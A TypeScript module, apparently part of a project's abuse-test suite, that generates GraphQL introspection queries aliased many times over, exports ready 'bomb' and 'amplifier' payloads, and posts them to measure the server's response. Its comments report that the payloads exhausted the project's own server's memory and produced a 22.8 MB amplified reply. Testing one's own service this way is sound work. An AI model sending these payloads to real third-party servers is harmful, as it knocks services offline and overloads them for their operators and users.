/**
 * Introspection fan-out, for `npm run abuse` (part 6) and test/cli/introspection-fanout.test.ts: one
 * fragment that walks the schema's types, their fields' types and those types' fields again (about
 * 300 KB of JSON for the Pick'Em schema), selected under many aliases of `__schema`. 1,000 aliases
 * (a 24 KB query) ran `npm start` out of memory; 75 (a 2.7 KB query) answered 22.8 MB.
 */

/** `inner`, then three levels of `ofType` around it (a type under its list and non-null wrappers). */
const unwrapped = (inner: string) => `${inner} ofType { ${inner} ofType { ${inner} ofType { ${inner} } } }`;

// `fields` nested twice: graphql-js's own MaxIntrospectionDepthRule refuses a third level.
const FRAGMENTS = [
  'fragment F on __Schema { types { ...R1 } queryType { ...R1 } mutationType { ...R1 } }',
  `fragment R1 on __Type { ${unwrapped('name kind description fields { name description args { name description type { ...R0 } } type { ...R0 } }')} }`,
  `fragment R0 on __Type { ${unwrapped('name kind description fields { name description type { name kind description } args { name description } }')} }`,
].join(' ');

export function introspectionFanOut(aliases: number): string {
  const roots = Array.from({ length: aliases }, (_, i) => `s${i}: __schema { ...F }`).join(' ');
  return `query Fan { ${roots} } ${FRAGMENTS}`;
}

/** The attack: 1,000 aliases. */
export const INTROSPECTION_BOMB = introspectionFanOut(1000);
/** The small one whose answer was over the response limit. */
export const INTROSPECTION_AMPLIFIER = introspectionFanOut(75);

export interface IntrospectionOutcome {
  status: number;
  bytes: number;
  ms: number;
  errorType: string | null;
}

export async function postIntrospection(url: string, token: string, query: string): Promise<IntrospectionOutcome> {
  const started = performance.now();
  const res = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: token },
    body: JSON.stringify({ query }),
  });
  const text = await res.text();
  const ms = performance.now() - started;
  let errorType: string | null = null;
  try {
    errorType = (JSON.parse(text) as { errors?: { errorType?: string }[] }).errors?.[0]?.errorType ?? null;
  } catch {
    errorType = null;
  }
  return { status: res.status, bytes: text.length, ms, errorType };
}
